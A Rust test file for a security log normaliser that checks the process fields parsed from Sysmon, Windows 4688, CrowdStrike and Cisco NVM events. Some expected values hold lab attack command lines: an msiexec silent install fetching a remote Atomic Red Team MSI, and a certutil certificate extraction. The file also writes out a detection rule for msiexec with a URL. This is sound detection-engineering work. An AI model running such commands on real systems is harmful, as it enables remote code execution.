//! Normalized Endpoint.Processes rows, field by field, for real events (shared/data/real) and
//! for every synthetic sample (samples/). Real files are read at run time; when they are absent
//! the test prints a note and passes.

use std::path::{Path, PathBuf};
use vigil_model::{DatasetRow, Value};
use vigil_normalize::Normalizer;

fn real(rel: &str) -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/real").join(rel);
    if p.exists() {
        Some(p)
    } else {
        eprintln!("note: {} absent, skipping", p.display());
        None
    }
}

fn sample(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../samples").join(name)
}

/// Rows of `dataset` from a file, with the reader's report checked clean.
fn rows(n: &Normalizer, path: &Path, dataset: &str) -> Vec<DatasetRow> {
    let ds = n.catalog().find(dataset).unwrap();
    let mut out = Vec::new();
    let report = vigil_read::read_file(path, &Default::default(), &mut |ev| n.normalize(ev, &mut out));
    assert_eq!(report.skipped_total(), 0, "{report}");
    out.retain(|r| r.dataset == ds);
    out
}

fn get<'a>(n: &Normalizer, row: &'a DatasetRow, field: &str) -> &'a Value {
    let i = n.catalog().get(row.dataset).field_index(field).unwrap_or_else(|| panic!("no field {field}"));
    &row.values[i]
}

fn text(n: &Normalizer, row: &DatasetRow, field: &str) -> String {
    get(n, row, field).to_string()
}

fn check(n: &Normalizer, row: &DatasetRow, expected: &[(&str, &str)]) {
    for (f, want) in expected {
        assert_eq!(text(n, row, f), *want, "field {f}");
    }
}

#[test]
fn real_sysmon_eid1() {
    let Some(p) = real("xmlwineventlog/system_integrity_process.log") else { return };
    let n = Normalizer::builtin().unwrap();
    let r = rows(&n, &p, "Endpoint.Processes");
    assert_eq!(r.len(), 1);
    check(&n, &r[0], &[
        ("action", "allowed"),
        ("dest", "EC2AMAZ-FKEOM7G"),
        ("original_file_name", "CONHOST.EXE"),
        ("os", "Microsoft Windows"),
        ("parent_process", "\"C:\\Windows\\system32\\wermgr.exe\" -upload"),
        ("parent_process_exec", "wermgr.exe"),
        ("parent_process_guid", "{1b43529b-3c51-6a7f-ca04-000000006300}"),
        ("parent_process_id", "5640"),
        ("parent_process_name", "wermgr.exe"),
        ("parent_process_path", "C:\\Windows\\System32\\wermgr.exe"),
        ("process", "\"C:\\Windows\\System32\\conhost.exe\""),
        ("process_current_directory", "C:\\Windows\\system32\\"),
        ("process_exec", "conhost.exe"),
        ("process_guid", "{1b43529b-3c51-6a7f-cb04-000000006300}"),
        ("process_hash", "MD5=A8306D3735D6E7B127050F42E92A6932,SHA256=CE219763B73D8B4FE41517B70CAE7421F28CACA149C6637D3312290357D81508,IMPHASH=D5AC805663F5B0C1826ED50248F028B9"),
        ("process_id", "9148"),
        ("process_integrity_level", "system"),
        ("process_name", "conhost.exe"),
        ("process_path", "C:\\Windows\\System32\\conhost.exe"),
        ("user", "NT AUTHORITY\\SYSTEM"),
        ("user_id", ""),
        ("vendor_product", "Microsoft Sysmon"),
    ]);
    assert_eq!(get(&n, &r[0], "tag"), &Value::Multi(vec!["process".into(), "report".into()]));
    assert!(get(&n, &r[0], "user_id").is_null());
    assert_eq!(r[0].time, 1_786_723_409_757_926);
}

#[test]
fn real_security_4688() {
    let Some(p) = real("xmlwineventlog/certutil_exe_certificate_extraction.raw") else { return };
    let n = Normalizer::builtin().unwrap();
    let ds = n.catalog().find("Endpoint.Processes").unwrap();
    let mut out = Vec::new();
    let report = vigil_read::read_file(&p, &Default::default(), &mut |ev| n.normalize(ev, &mut out));
    assert_eq!(report.events, 40);
    assert_eq!(out.len(), 40, "20 Sysmon EID 1 + 20 Security 4688 rows");
    assert!(out.iter().all(|r| r.dataset == ds));
    let sec: Vec<&DatasetRow> = out.iter().filter(|r| text(&n, r, "vendor_product") == "Microsoft Windows").collect();
    assert_eq!(sec.len(), 20);
    // The first 4688 in the file: NewProcessId 0x1b28, ProcessId 0x1acc.
    let row = sec.iter().find(|r| text(&n, r, "process_id") == "6952").expect("hex 0x1b28 -> 6952");
    check(
        &n,
        row,
        &[
            ("action", "allowed"),
            ("dest", "win-dc-791937.attackrange.local"),
            ("original_file_name", "unknown"),
            ("parent_process", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            ("parent_process_exec", "powershell.exe"),
            ("parent_process_guid", ""),
            ("parent_process_id", "6860"),
            ("parent_process_name", "powershell.exe"),
            ("parent_process_path", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            ("process", "\"C:\\Windows\\system32\\certutil.exe\" -p password1234 .\\powershellcert.pfx"),
            ("process_exec", "certutil.exe"),
            ("process_guid", ""),
            ("process_hash", ""),
            ("process_integrity_level", "high"),
            ("process_name", "certutil.exe"),
            ("process_path", "C:\\Windows\\System32\\certutil.exe"),
            ("user", "ATTACKRANGE\\administrator"),
            ("user_id", "ATTACKRANGE\\Administrator"),
            ("vendor_product", "Microsoft Windows"),
        ],
    );
    // The Sysmon event for the same process gives the same decimal pid and parent pid.
    let sysmon = out
        .iter()
        .find(|r| text(&n, r, "vendor_product") == "Microsoft Sysmon" && text(&n, r, "process_id") == "6952")
        .expect("sysmon row for pid 6952");
    assert_eq!(text(&n, sysmon, "parent_process_id"), "6860");
}

#[test]
fn real_crowdstrike_example() {
    let Some(p) = real("json/crowdstrike_processrollup2_example.json") else { return };
    let n = Normalizer::builtin().unwrap();
    let r = rows(&n, &p, "Endpoint.Processes");
    assert_eq!(r.len(), 1);
    check(
        &n,
        &r[0],
        &[
            ("action", "allowed"),
            ("dest", "168a90e125d443beb2a4e2914985084d"),
            ("os", "Microsoft Windows"),
            ("parent_process", "unknown"),
            ("parent_process_exec", "explorer.exe"),
            ("parent_process_guid", "5459598860"),
            ("parent_process_id", "5459598860"),
            ("parent_process_name", "explorer.exe"),
            ("parent_process_path", ""),
            ("process", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" "),
            ("process_exec", "powershell.exe"),
            ("process_guid", "5642133882"),
            ("process_hash", "ba4038fd20e474c047be8aad5bfacdb1bfc1ddbe12f803f473b7918d8d819436"),
            ("process_id", "5012"),
            ("process_integrity_level", "high"),
            ("process_name", "powershell.exe"),
            ("process_path", "\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            ("user", "S-1-5-21-586445407-708991241-1829972403-500"),
            ("user_id", "S-1-5-21-586445407-708991241-1829972403-500"),
            ("vendor_product", "CrowdStrike Falcon"),
        ],
    );
    assert_eq!(r[0].time, 1_713_805_173_418_000);
}

#[test]
fn real_nvm_example() {
    let Some(p) = real("json/cisco_nvm_flowdata_example.json") else { return };
    let n = Normalizer::builtin().unwrap();
    let r = rows(&n, &p, "Endpoint.Processes");
    assert_eq!(r.len(), 1);
    check(
        &n,
        &r[0],
        &[
            ("action", "allowed"),
            ("dest", "10.10.0.38"),
            ("parent_process", "C:\\Windows\\System32\\services.exe"),
            ("parent_process_exec", "services.exe"),
            ("parent_process_id", "684"),
            ("parent_process_name", "services.exe"),
            ("parent_process_path", "C:\\Windows\\System32\\services.exe"),
            ("process", "C:\\Windows\\System32\\svchost.exe -k UnistackSvcGroup -s WpnUserService"),
            ("process_exec", "svchost.exe"),
            ("process_guid", "E89CC0DBD1F48055BB4FA09268E9B51D"),
            ("process_hash", "B0B36BFF7AE4057F687D839CD4B3D81159AB646F1EE1B22106A927E93DECBB61"),
            ("process_id", "3040"),
            ("process_integrity_level", "medium"),
            ("process_name", "svchost.exe"),
            ("process_path", "C:\\Windows\\System32\\svchost.exe"),
            ("user", "WIN-ANIKET\\Hostscan"),
            ("vendor_product", "Cisco Network Visibility Module"),
        ],
    );
    assert_eq!(r[0].time, 1_784_017_733_536_000);
}

/// (process_name, process) of every Endpoint.Processes row of a sample.
fn names_and_commands(n: &Normalizer, file: &str) -> Vec<(String, String)> {
    rows(n, &sample(file), "Endpoint.Processes").iter().map(|r| (text(n, r, "process_name"), text(n, r, "process"))).collect()
}

/// The seed detection's condition, written out: msiexec and a URL on the command line.
fn is_tp(name: &str, process: &str) -> bool {
    let p = process.to_lowercase();
    name.eq_ignore_ascii_case("msiexec.exe") && (p.contains("http://") || p.contains("https://"))
}

fn tp_count(n: &Normalizer, file: &str) -> (usize, usize) {
    let rows = names_and_commands(n, file);
    (rows.len(), rows.iter().filter(|(a, b)| is_tp(a, b)).count())
}

#[test]
fn samples_normalize_with_expected_true_positives() {
    let n = Normalizer::builtin().unwrap();
    assert_eq!(tp_count(&n, "sysmon_msiexec.xml"), (7, 2));
    assert_eq!(tp_count(&n, "security_4688_msiexec.xml"), (5, 2));
    assert_eq!(tp_count(&n, "crowdstrike_msiexec.json"), (3, 1));
    assert_eq!(tp_count(&n, "cisco_nvm_msiexec.json"), (3, 1));
    assert_eq!(tp_count(&n, "flat_json_msiexec.json"), (3, 2));
}

#[test]
fn sample_sysmon_tp_fields() {
    let n = Normalizer::builtin().unwrap();
    let r = rows(&n, &sample("sysmon_msiexec.xml"), "Endpoint.Processes");
    check(&n, &r[0], &[
        ("action", "allowed"),
        ("dest", "WIN10-ART-04.attackrange.local"),
        ("original_file_name", "msiexec.exe"),
        ("parent_process_name", "powershell.exe"),
        ("process", "msiexec.exe /q /i \"https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1218.007/src/T1218.007_JScript.msi\""),
        ("process_id", "6952"),
        ("parent_process_id", "4420"),
        ("process_integrity_level", "high"),
        ("process_name", "msiexec.exe"),
        ("process_path", "C:\\Windows\\System32\\msiexec.exe"),
        ("user", "ATTACKRANGE\\alice"),
        ("vendor_product", "Microsoft Sysmon"),
    ]);
    // The service-start near miss runs as SYSTEM at system integrity.
    check(&n, &r[6], &[("process_integrity_level", "system"), ("user", "NT AUTHORITY\\SYSTEM"), ("parent_process_name", "services.exe")]);
}

#[test]
fn sample_4688_tp_fields() {
    let n = Normalizer::builtin().unwrap();
    let r = rows(&n, &sample("security_4688_msiexec.xml"), "Endpoint.Processes");
    check(
        &n,
        &r[0],
        &[
            ("process_id", "6952"),
            ("parent_process_id", "4420"),
            ("process_integrity_level", "high"),
            ("process_name", "msiexec.exe"),
            ("parent_process_name", "powershell.exe"),
            ("user", "ATTACKRANGE\\alice"),
            ("user_id", "S-1-5-21-4072314881-2634547730-233802997-1104"),
            ("dest", "WIN10-ART-04.attackrange.local"),
        ],
    );
    // Medium-integrity bitsadmin (MandatoryLabel S-1-16-8192).
    check(&n, &r[3], &[("process_integrity_level", "medium"), ("process_name", "bitsadmin.exe")]);
}

#[test]
fn sample_crowdstrike_and_nvm_tp_fields() {
    let n = Normalizer::builtin().unwrap();
    let cs = rows(&n, &sample("crowdstrike_msiexec.json"), "Endpoint.Processes");
    check(
        &n,
        &cs[0],
        &[
            ("dest", "WIN10-ART-04"),
            ("process_name", "msiexec.exe"),
            ("process_path", "\\Windows\\System32\\msiexec.exe"),
            ("process_id", "6952"),
            ("parent_process_name", "powershell.exe"),
            ("user", "alice"),
            ("user_id", "S-1-5-21-4072314881-2634547730-233802997-1104"),
            ("process_integrity_level", "high"),
        ],
    );
    let nvm = rows(&n, &sample("cisco_nvm_msiexec.json"), "Endpoint.Processes");
    check(&n, &nvm[0], &[
        ("process_name", "msiexec.exe"),
        ("process", "C:\\Windows\\System32\\msiexec.exe /q /i \"https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1218.007/src/T1218.007_JScript.msi\""),
        ("parent_process", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ExecutionPolicy Bypass"),
        ("user", "ATTACKRANGE\\alice"),
        ("process_integrity_level", "high"),
    ]);
}

#[test]
fn sample_flat_json_matches_xml_fields() {
    let n = Normalizer::builtin().unwrap();
    let r = rows(&n, &sample("flat_json_msiexec.json"), "Endpoint.Processes");
    check(
        &n,
        &r[0],
        &[
            ("dest", "WIN10-ART-04"),
            ("process_name", "msiexec.exe"),
            ("process_id", "6952"),
            ("parent_process_name", "powershell.exe"),
            ("vendor_product", "Microsoft Sysmon"),
            ("process_integrity_level", "high"),
        ],
    );
    check(
        &n,
        &r[2],
        &[
            ("process_id", "7316"),
            ("parent_process_id", "5020"),
            ("process_name", "msiexec.exe"),
            ("user", "ATTACKRANGE\\alice"),
            ("vendor_product", "Microsoft Windows"),
            ("process_integrity_level", "high"),
        ],
    );
}

#[test]
fn real_sysmon_evtx_all_datasets() {
    let Some(p) = real("evtx/sysmon.evtx") else { return };
    let n = Normalizer::builtin().unwrap();
    let mut out = Vec::new();
    let report = vigil_read::read_file(&p, &Default::default(), &mut |ev| n.normalize(ev, &mut out));
    assert_eq!(report.events, 358);
    let count = |name: &str| {
        let ds = n.catalog().find(name).unwrap();
        out.iter().filter(|r| r.dataset == ds).count()
    };
    assert_eq!(count("Endpoint.Processes"), 227);
    assert_eq!(count("Endpoint.Filesystem"), 34, "EID 11");
    assert_eq!(count("Endpoint.Registry"), 32, "EID 12 + 13");
    let reg = n.catalog().find("Endpoint.Registry").unwrap();
    let row = out.iter().find(|r| r.dataset == reg && text(&n, r, "action") == "modified").unwrap();
    assert!(!text(&n, row, "registry_path").is_empty());
    assert_eq!(text(&n, row, "registry_hive"), text(&n, row, "registry_path").split('\\').next().unwrap());
    assert_eq!(text(&n, row, "vendor_product"), "Microsoft Sysmon");
    // Every process row has a decimal pid and a lowercase integrity level.
    let procs = n.catalog().find("Endpoint.Processes").unwrap();
    for r in out.iter().filter(|r| r.dataset == procs) {
        assert!(text(&n, r, "process_id").bytes().all(|b| b.is_ascii_digit()));
        let il = text(&n, r, "process_integrity_level");
        assert_eq!(il, il.to_lowercase());
    }
}

#[test]
fn events_without_a_mapping_give_no_rows() {
    let n = Normalizer::builtin().unwrap();
    let mut out = Vec::new();
    let mut ev = vigil_model::Event { sourcetype: "XmlWinEventLog".into(), source: "XmlWinEventLog:Security".into(), ..Default::default() };
    ev.push("EventCode", "5145");
    n.normalize(&ev, &mut out);
    ev.sourcetype = "unknown:type".into();
    n.normalize(&ev, &mut out);
    assert!(out.is_empty());
}
